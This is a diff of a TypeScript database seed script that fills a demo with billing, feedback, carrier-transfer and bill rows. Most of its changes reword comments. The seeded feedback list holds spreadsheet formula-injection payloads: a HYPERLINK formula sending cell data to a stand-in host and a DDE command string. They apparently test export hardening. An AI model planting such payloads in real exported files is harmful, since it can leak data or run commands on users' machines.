@@ -1,4 +1,4 @@
-// Seeds billing: subscriptions, fee histories, a year of use below, over and without a quota; and rows of reports.
+// Seeds billing data (subscriptions, fee histories, a year of quota use) and the rows of the reports.
 import { asc, eq, gt, inArray } from 'drizzle-orm'
 import { type BilledService, billedServices, feeOf } from '#contract/platform/billing.ts'
 import type { Database } from '#server/db/database.ts'
@@ -12,11 +12,11 @@ import { byWeight, continueSequence, insertRows, mostMerchants, type Random, rea
 import { reverseStories, storyEcommerces } from './stories.ts'
 import { demoToday } from './today.ts'
 
-/** Chance of its own: the rest of the demo does not depend on it. */
+/** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
 const seed = 4217
 const thisYear = demoToday.getUTCFullYear()
 
-/** Every so many a merchant without a subscription, fees and use. */
+/** Every merchant whose id is a multiple of this number has no subscription, fees or quota use. */
 const emptyEach = 12
 
 type Quota = typeof billingQuotas.$inferSelect
@@ -50,7 +50,7 @@ export async function seedBilling(db: Database, count: number): Promise<void> {
   )
 }
 
-/** Loja Azul is over one quota, within another, and has one without a limit. */
+/** Gives Loja Azul three quotas: one that is exceeded, one that is not, and an unlimited one. */
 async function seedStory(db: Database): Promise<void> {
   const ecommerce_id = storyEcommerces.lojaAzul
   await db.delete(billingQuotas).where(eq(billingQuotas.ecommerce_id, ecommerce_id))
@@ -88,7 +88,7 @@ const comments = [
   'Aditivo contratual nº 7. Vale até a próxima renovação; qualquer mudança de volume acima de 20 % em dois meses seguidos reabre a negociação com o financeiro do lojista.',
 ]
 
-/** Raised from year to year; some raises are still to come. */
+/** Creates a fee history with yearly increases, some of them in the future. */
 function feesOf(random: Random, ecommerce_id: number, service_code: BilledService) {
   const isStory = ecommerce_id === storyEcommerces.lojaAzul
   if (!isStory && random.chance(0.3)) return []
@@ -112,7 +112,7 @@ function feesOf(random: Random, ecommerce_id: number, service_code: BilledServic
   })
 }
 
-/** Of the present month only its first half. */
+/** Fraction of a month's use that the current month already has. */
 const shareOfMonth = 0.53
 
 function useOf(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
@@ -120,7 +120,7 @@ function useOf(random: Random, { ecommerce_id, service_code, monthly_quota }: Qu
   if (ecommerce_id !== storyEcommerces.lojaAzul && random.chance(0.15)) return []
   const usual = (monthly_quota ?? random.between(2, 90) * 100) * (isOver ? 0.95 : 0.6)
   const months = lastMonths(demoToday)
-  // Loja Azul has used more than its month already.
+  // Loja Azul exceeds its quota in the current month already.
   const thisMonth = isOver && ecommerce_id === storyEcommerces.lojaAzul ? 1.4 : shareOfMonth
   return months.map((month, index) => ({
     ...{ ecommerce_id, service_code, month: firstDayOf(month) },
@@ -128,16 +128,14 @@ function useOf(random: Random, { ecommerce_id, service_code, monthly_quota }: Qu
   }))
 }
 
-// Seeds the reports: feedbacks, transfers to carriers, almost three years of bills.
-
-/** Chance of its own: the rest of the demo does not depend on it. */
+/** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
 const reportSeed = 7741
-/** More would only make a large demo slow to load. */
+/** Maximum number of merchants with report data; more would only make a large demo slow to load. */
 const mostReportedMerchants = 300
 const mostBilled = 60
 const firstMonth = { year: thisYear - 2, month: 1 }
 
-/** Enough for one statement, and for memory where there are a million of them. */
+/** Number of reverses that are read at a time, so that a million of them does not exceed the memory. */
 const reversesAtOnce = 20_000
 
 type Reverse = Pick<
@@ -145,6 +143,7 @@ type Reverse = Pick<
   'id' | 'ecommerce_id' | 'status' | 'tracking_code' | 'created_at' | 'updated_at'
 >
 
+/** Seeds the rows of the reports: feedbacks, transfers to carriers, and almost three years of bills. */
 export async function seedReports(db: Database, count: number): Promise<void> {
   const random = seeded(reportSeed)
   const ids = Array.from({ length: Math.min(count, mostReportedMerchants) }, (_, index) => index + 1)
@@ -159,7 +158,7 @@ export async function seedReports(db: Database, count: number): Promise<void> {
   await seedBillings(db, random, ids.slice(0, mostBilled))
 }
 
-/** By their ids, some at a time. */
+/** Reads all reverses in batches, ordered by id. */
 async function* reversesIn(db: Database): AsyncGenerator<readonly Reverse[]> {
   const { id, ecommerce_id, status, tracking_code, created_at, updated_at } = reverses
   for (let last = 0; ; ) {
@@ -175,7 +174,7 @@ async function* reversesIn(db: Database): AsyncGenerator<readonly Reverse[]> {
   }
 }
 
-/** In these it has reached the merchant. */
+/** Statuses of reverses that have reached the merchant. */
 const arrived: ReadonlySet<string | null> = new Set(['completed', 'done', 'partially_completed', 'almost_done'])
 
 const praise = [
@@ -198,7 +197,7 @@ const complaints = [
   'O código de postagem demorou três dias para chegar.',
 ]
 
-/** Out of ten. */
+/** Picks a score from 0 to 10. */
 const pickScore = byWeight([
   ...([
     [10, 40],
@@ -217,7 +216,7 @@ const pickScore = byWeight([
   ] as const),
 ])
 
-/** What a spreadsheet would run, misread or break, and what is only long. */
+/** Comments that a spreadsheet would execute, misread or split, and a very long one. */
 const storyComments = [
   '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -239,7 +238,7 @@ function feedbacksOf(random: Random, rows: readonly Reverse[]) {
   })
 }
 
-/** Within some days of its end; the last ones have not written yet. */
+/** Creates a feedback, written within four days after the last change of the reverse. */
 function feedbackOf(random: Random, { id, ecommerce_id, updated_at }: Reverse, told?: string) {
   const score = pickScore(random)
   const comment = told ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
@@ -254,7 +253,10 @@ const carriers = [
   { carrier: 'Braspress', services: ['Rodoviário "porta a porta"; até 30 kg'] },
 ] as const
 
-/** Carriers are paid some weeks after the goods were sent. */
+/**
+ * Creates the payment to a carrier, some weeks after the reverse was created; an empty array for reverses without
+ * freight or paid later.
+ */
 function transferOf(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
   const isSent = arrived.has(status) || status === 'shipped' || status === 'delivered'
   const on = created_at.getTime() + random.between(10, 40) * day
@@ -285,7 +287,7 @@ async function seedBillings(db: Database, random: Random, ids: readonly number[]
   )
 }
 
-/** Every month up to the present one. */
+/** Creates one bill per month up to the current month. */
 function monthsOf(random: Random, ecommerce_id: number) {
   const last = demoToday.getUTCFullYear() * 12 + demoToday.getUTCMonth()
   const first =
